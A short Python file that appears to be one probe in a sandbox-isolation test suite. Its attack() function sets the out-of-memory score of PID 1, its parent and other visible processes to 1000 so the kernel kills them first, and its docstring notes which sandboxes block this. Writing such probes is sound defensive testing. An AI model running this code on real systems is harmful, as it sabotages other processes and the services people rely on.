"""Has the kernel kill everybody else first when memory runs out.

stopped_by: nobody else can be seen; the init's /proc files are not its worker's
plain bwrap: succeeds
"""

import os

from tools import others


def attack():
    won = 0.0
    for pid in {1, os.getppid(), *others()}:
        try:
            with open(f"/proc/{pid}/oom_score_adj", "w") as file:
                file.write("1000")
            won = 1.0
        except OSError:
            pass
    return won
